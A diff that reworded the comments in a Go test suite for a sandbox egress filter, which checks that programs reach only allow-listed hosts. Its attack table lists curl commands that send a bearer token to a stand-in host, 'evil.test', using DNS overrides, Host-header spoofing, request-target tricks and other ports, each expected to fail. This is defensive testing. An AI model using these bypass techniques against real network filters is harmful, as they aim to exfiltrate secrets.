@@ -17,7 +17,7 @@ import (
 	"github.com/parley-server/parley/internal/toolenv/sandbox"
 )
 
-// unaware returns what a script prints that nothing tells of a proxy. KEY is the placeholder.
+// unaware returns the output of a script that gets no proxy settings. KEY is the placeholder.
 func (s *shell) unaware(t *testing.T, r *egress.Run, script string) string {
 	t.Helper()
 	var out bytes.Buffer
@@ -32,15 +32,15 @@ func (s *shell) unaware(t *testing.T, r *egress.Run, script string) string {
 	return out.String()
 }
 
-// straight are programs that know of no proxy: they send the placeholder to a URL and
-// print the answer, or why there is none.
+// straight are programs without proxy support: they send the placeholder to a URL and print the
+// response, or the reason for a failure.
 var straight = map[string]string{
 	"curl":    `curl -sS --noproxy '*' -H "Authorization: Bearer $KEY" %s 2>&1`,
 	"python3": `python3 -c 'import os, sys, urllib.request as u; print(u.urlopen(u.Request(sys.argv[1], headers={"Authorization": "Bearer " + os.environ["KEY"]})).read().decode())' %s 2>&1`,
 	"node":    `node -e 'fetch(process.argv[1], {headers: {Authorization: "Bearer " + process.env.KEY}}).then(a => a.text()).then(console.log, e => console.log(e.cause))' %s`,
 }
 
-// TestProgramsWithoutAProxy has real programs reach what they may, and nothing else.
+// TestProgramsWithoutAProxy checks that real programs reach the allowed hosts and nothing else.
 func TestProgramsWithoutAProxy(t *testing.T) {
 	t.Parallel()
 	for program, script := range straight {
@@ -70,7 +70,7 @@ func TestProgramsWithoutAProxy(t *testing.T) {
 	}
 }
 
-// TestAttacksWithoutAProxy tries to come past the names.
+// TestAttacksWithoutAProxy tries to bypass the names.
 func TestAttacksWithoutAProxy(t *testing.T) {
 	t.Parallel()
 	slow.Test(t, "runs commands")
@@ -78,17 +78,17 @@ func TestAttacksWithoutAProxy(t *testing.T) {
 	w := newWorld(t, egress.Config{})
 	r := w.run(t, egress.RunConfig{Hosts: []string{"www.wild.test"}})
 	const auth = ` -sS --noproxy '*' --max-time 9 -H "Authorization: Bearer $KEY" `
-	// api.test is 127.1.0.1 then, and www.wild.test 127.1.0.2.
+	// Here api.test is 127.1.0.1 and www.wild.test is 127.1.0.2.
 	out := s.unaware(t, r, "curl"+auth+"https://api.test/ https://www.wild.test/")
 	if len(w.arrivals()) != 2 {
 		t.Fatalf("%+v: %s", w.arrivals(), out)
 	}
 	for script, want := range map[string]string{
-		// the handshake names another host than the address, or none
+		// The handshake names another host than the address, or none.
 		"curl" + auth + "-k --resolve evil.test:443:127.1.0.1 https://evil.test/":                "curl: (35)",
 		"curl" + auth + "-k --connect-to www.wild.test:443:127.1.0.1:443 https://www.wild.test/": "curl: (35)",
 		"curl" + auth + "-k https://127.1.0.1/":                                                  "curl: (35)",
-		// addresses that no host has
+		// Addresses that do not belong to any host.
 		"curl" + auth + "-k https://127.0.0.1/":                                          "curl: (35)",
 		"curl" + auth + "-k --resolve api.test:443:127.1.0.3 https://api.test/":          "curl: (35)",
 		"curl" + auth + "-k --resolve api.test:443:127.2.0.1 https://api.test/":          "curl: (35)",
@@ -96,17 +96,17 @@ func TestAttacksWithoutAProxy(t *testing.T) {
 		"curl" + auth + "-k --resolve evil.test:443:1.2.3.4 https://evil.test/":          "curl: (7)",
 		"curl" + auth + "-k --resolve 'api.test:443:[::1]' https://api.test/":            "curl: (7)",
 		"curl" + auth + "-k --resolve 'api.test:443:[::ffff:10.0.0.1]' https://api.test": "curl: (7)",
-		// requests that name another host than the connection, or not as servers expect
+		// Requests that name another host than the connection, or name it in an unusual way.
 		"curl" + auth + `-i -H "Host: evil.test" https://api.test/`:                      "421 Misdirected Request",
 		"curl" + auth + `-i -H "Host: www.wild.test" https://api.test/`:                  "421 Misdirected Request",
 		"curl" + auth + `-i --request-target https://evil.test/ https://api.test/`:       "400 Bad Request",
 		"curl" + auth + `-i -X CONNECT --request-target evil.test:443 https://api.test/`: "400 Bad Request",
 		"curl" + auth + `-i -x http://127.1.0.1:80 --noproxy '' -p http://evil.test/`:    "400 Bad Request",
 		"curl" + auth + `-i -H "Host: evil.test" http://www.wild.test/`:                  "421 Misdirected Request",
-		// other ports
+		// Other ports.
 		"curl" + auth + "-k https://api.test:8443/": "curl: (7)",
 		"curl" + auth + "http://api.test:22/":       "curl: (7)",
-		// names that are not on the list
+		// Names that are not on the list.
 		"curl" + auth + "https://secret-in-a-name.api.test/": "curl: (6)",
 		"curl" + auth + "https://other.api.test/":            "curl: (6)",
 		"curl" + auth + "https://wild.test/":                 "curl: (6)",
@@ -141,7 +141,7 @@ except OSError as e:
 	}
 }
 
-// TestOneRunKnowsNoNamesOfAnother connects to the address that a host has in another run.
+// TestOneRunKnowsNoNamesOfAnother connects to an address that belongs to a host in another run.
 func TestOneRunKnowsNoNamesOfAnother(t *testing.T) {
 	t.Parallel()
 	w := newWorld(t, egress.Config{})
@@ -168,7 +168,7 @@ func TestOneRunKnowsNoNamesOfAnother(t *testing.T) {
 		if got := (door{"direct", tr.RoundTrip}).get(t, "https://api.test/"); (got.err == nil) != c.ok || c.ok && got.status != 200 {
 			t.Errorf("%+v", got)
 		}
-		l.Close() // and with it the connection, which nobody else closes
+		l.Close() // also closes the connection
 		if err := wait.Receive(t, "the end", ended); err != nil {
 			t.Error(err)
 		}
